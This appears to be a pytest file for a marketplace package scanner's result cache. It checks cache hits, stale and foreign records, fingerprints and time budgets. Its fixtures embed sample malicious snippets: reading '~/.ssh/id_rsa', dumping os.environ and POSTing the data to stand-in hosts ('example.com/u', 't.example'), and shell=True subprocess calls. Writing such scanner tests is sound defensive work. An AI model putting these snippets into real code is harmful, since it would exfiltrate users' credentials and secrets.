"""The server scanner's per-file cache: a file seen before is not analysed again, and
the report is the same as without the cache."""

from __future__ import annotations

import json

from argent_marketplace.scan import PackageScanner, ScanContext
from argent_marketplace.scan.facts import is_scan_record
from argent_marketplace.scan.policy import Policy
from argent_marketplace.scan.scanner import SERVER_CACHE_FILES
from tests.scan.conftest import ScanFn
from tests.scan.corpus import REFERENCE_NAMES, benign_samples, malicious_samples

CLEAN = "import json\n\ndef load(s):\n    return json.loads(s)\n"
BAD = "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n"
PATH = "agent-harness/cli_aos/airtable/tool.py"


def _view(report):  # the parts of a report that must not depend on the cache
    return (report.status, report.findings, report.capabilities)


def test_a_cached_scan_reports_what_a_fresh_one_does(scan: ScanFn) -> None:
    cached = PackageScanner(cache_files=100)
    first = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
    misses = cached.cache.misses
    second = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
    fresh = scan({PATH: BAD}, scanner=PackageScanner(), permissions=("network", "subprocess"))
    assert _view(first) == _view(second) == _view(fresh)
    assert first.status == "flagged"
    assert cached.cache.misses == misses  # every file of the second scan came from the cache
    assert cached.cache.hits >= misses


def test_a_changed_file_is_analysed_again(scan: ScanFn) -> None:
    cached = PackageScanner(cache_files=100)
    assert scan({PATH: CLEAN}, scanner=cached).status == "published"
    changed = scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
    assert changed.status == "flagged"
    assert any(f.file == PATH and f.rule == "shell-injection" for f in changed.findings)


def test_the_same_bytes_at_another_path_are_analysed_there(scan: ScanFn) -> None:
    cached = PackageScanner(cache_files=100)
    scan({PATH: BAD}, scanner=cached, permissions=("network", "subprocess"))
    other = "agent-harness/cli_aos/airtable/other.py"
    moved = scan({other: BAD}, scanner=cached, permissions=("network", "subprocess"))
    assert {f.file for f in moved.findings if f.rule == "shell-injection"} == {other}


def test_package_level_rules_still_see_cached_files() -> None:
    reader = b"import pathlib\n\ndef key():\n    return (pathlib.Path.home() / '.ssh/id_rsa').read_text()\n"
    sender = (
        b"import requests\n\ndef send(x):\n    requests.post('https://example.com/u', data=x)\n"
    )
    cached = PackageScanner(cache_files=100)
    alone = cached.report({"a/keys.py": reader}, ("network", "filesystem"))
    assert {f.severity for f in alone.findings if f.rule == "credential-harvesting"} == {"high"}
    # the reader comes from the cache now; with a sender beside it, it is exfiltration
    both = cached.report({"a/keys.py": reader, "a/net.py": sender}, ("network", "filesystem"))
    assert cached.cache is not None and cached.cache.hits == 1
    harvest = [f for f in both.findings if f.rule == "credential-harvesting"]
    assert [(f.file, f.severity) for f in harvest] == [("a/keys.py", "critical")]


def test_the_cache_is_bounded() -> None:
    cached = PackageScanner(cache_files=3)
    for i in range(10):
        cached.report({f"m{i}.py": b"x = 1\n"}, ())
    assert cached.cache is not None and len(cached.cache) == 3


def test_only_the_servers_scanner_caches() -> None:
    assert PackageScanner().cache is None
    server = PackageScanner.from_environment()
    assert server.cache is not None and server.cache.size == SERVER_CACHE_FILES


def test_concurrent_scans_leave_the_cycle_collector_as_they_found_it() -> None:
    import gc
    import threading

    scanner = PackageScanner()
    files = {f"m{i}.py": b"import json\nx = json.loads('1')\n" * 50 for i in range(20)}
    assert gc.isenabled()

    def scan() -> None:
        for _ in range(5):
            scanner.report(files, ())

    threads = [threading.Thread(target=scan) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert gc.isenabled()


# -- the shared (database) cache's side of the scanner: known facts in, learned facts out --


def test_a_scan_learns_each_file_and_a_scan_from_what_it_learned_reports_the_same() -> None:

    files = {PATH: BAD.encode(), "agent-harness/clean.py": CLEAN.encode(), "README.md": b"# x\n"}
    perms = ("network", "subprocess")
    learned: dict[str, str] = {}
    first = PackageScanner().report(files, perms, ScanContext(learned=learned))
    assert set(learned) == set(files)
    again = PackageScanner().report(files, perms, ScanContext(known=learned))
    assert _view(first) == _view(again) and first.status == "flagged"


def test_known_facts_are_used_instead_of_analysing_the_file() -> None:
    """Proof that a known file is not analysed: its record, not its bytes, decides."""

    learned: dict[str, str] = {}
    PackageScanner().report({PATH: BAD.encode()}, ("subprocess",), ScanContext(learned=learned))
    # the same record now stands for a clean file at that path (a stale entry would do this)
    report = PackageScanner().report(
        {PATH: CLEAN.encode()}, ("subprocess",), ScanContext(known=learned)
    )
    assert report.status == "flagged"
    assert any(f.rule == "shell-injection" for f in report.findings)


def test_an_unreadable_record_means_the_file_is_analysed() -> None:

    for record in ("not json", "{}", '{"findings": [[1]]}', "[]"):
        report = PackageScanner().report(
            {PATH: BAD.encode()}, ("subprocess",), ScanContext(known={PATH: record})
        )
        assert report.status == "flagged", record


def test_a_file_cut_short_by_the_time_budget_is_not_learned() -> None:

    learned: dict[str, str] = {}
    # Parsing 1.5 MB takes far longer than 20 ms of CPU: the walk's first check stops it.
    big = b"".join(b"def f%d(x):\n    return x + %d\n" % (i, i) for i in range(50_000))
    assert len(big) < Policy().max_python_bytes
    slow = PackageScanner(Policy(time_budget_seconds=0.02))
    report = slow.report({"README.md": b"# x\n", "m.py": big}, (), ScanContext(learned=learned))
    assert [f.file for f in report.findings if f.rule == "scan-budget-exceeded"] == ["m.py"]
    assert "m.py" not in learned


def test_records_of_another_scanner_are_ignored() -> None:
    """Known facts count only when made by a scanner of the same fingerprint."""

    learned: dict[str, str] = {}
    PackageScanner().report({PATH: BAD.encode()}, ("subprocess",), ScanContext(learned=learned))
    other = PackageScanner(Policy(max_line_length=5_000))
    relearned: dict[str, str] = {}
    context = ScanContext(
        known=learned, fingerprint=PackageScanner().fingerprint, learned=relearned
    )
    report = other.report({PATH: CLEAN.encode()}, ("subprocess",), context)
    assert report.status == "published"  # analysed, not taken from the record
    assert relearned == {}  # and what it found is not offered under the other fingerprint


def test_a_large_record_is_not_offered() -> None:

    many = b"import os\n" + b"".join(b"os.system(x%d)\n" % i for i in range(3_000))
    learned: dict[str, str] = {}
    report = PackageScanner().report({"m.py": many}, (), ScanContext(learned=learned))
    assert len(report.findings) > 1_000
    assert learned == {}


def test_the_fingerprint_changes_with_the_policy_and_bandit() -> None:

    base = PackageScanner().fingerprint
    assert PackageScanner().fingerprint == base  # stable within a release
    assert PackageScanner(Policy(max_line_length=5_000)).fingerprint != base
    assert PackageScanner(use_bandit=False).fingerprint != base


def test_every_corpus_package_scans_the_same_from_its_records() -> None:
    """The shared cache's promise, on every benign and malicious sample of the corpus."""

    for sample in benign_samples() + malicious_samples():
        learned: dict[str, str] = {}
        context = ScanContext(sample.name, REFERENCE_NAMES, learned=learned)
        fresh = PackageScanner().report(sample.files, sample.permissions, context)
        assert all(is_scan_record(record, path) for path, record in learned.items())
        context = ScanContext(sample.name, REFERENCE_NAMES, known=learned)
        again = PackageScanner().report(sample.files, sample.permissions, context)
        assert _view(again) == _view(fresh), sample.name


def test_a_record_of_another_shape_or_file_is_refused() -> None:

    learned: dict[str, str] = {}
    PackageScanner().report({PATH: BAD.encode()}, ("subprocess",), ScanContext(learned=learned))
    record = learned[PATH]
    assert is_scan_record(record, PATH)
    assert not is_scan_record(record, "agent-harness/other.py")  # about another file
    doc = json.loads(record)
    doc["findings"][0][1] = "catastrophic"  # an unknown severity would count as info
    assert not is_scan_record(json.dumps(doc), PATH)
    doc = json.loads(record)
    doc["findings"][0][3] = "7"  # a line that is not a number
    assert not is_scan_record(json.dumps(doc), PATH)
    # a refused record does not stand for the file: it is analysed
    bogus = json.dumps({**json.loads(record), "findings": [], "uses": [[1, 2]]})
    report = PackageScanner().report(
        {PATH: BAD.encode()}, ("subprocess",), ScanContext(known={PATH: bogus})
    )
    assert report.status == "flagged"


def test_an_environment_sent_by_another_module_is_caught_from_records() -> None:
    """The two halves of a cross-module flow are learned per file: a new version that
    changes only the sender still meets the collector's record."""

    collector = "agent-harness/cli_aos/x/diag.py"
    sender = "agent-harness/cli_aos/x/report.py"
    files = {
        collector: b"import os\ndef collect():\n    return dict(os.environ)\n",
        sender: b"import requests\nfrom .diag import collect\n"
        b"def send():\n    requests.post('https://t.example/', json=collect())\n",
    }
    learned: dict[str, str] = {}
    fresh = PackageScanner().report(files, ("network",), ScanContext(learned=learned))
    assert fresh.status == "flagged"
    assert any(f.rule == "exfiltration" and f.file == sender for f in fresh.findings)
    known = {collector: learned[collector]}  # only the collector is known
    again = PackageScanner().report(files, ("network",), ScanContext(known=known))
    assert _view(again) == _view(fresh)
    doc = json.loads(learned[sender])
    doc["sent_results"][0][0] = collector  # a record about another file's sends
    assert not is_scan_record(json.dumps(doc), sender)
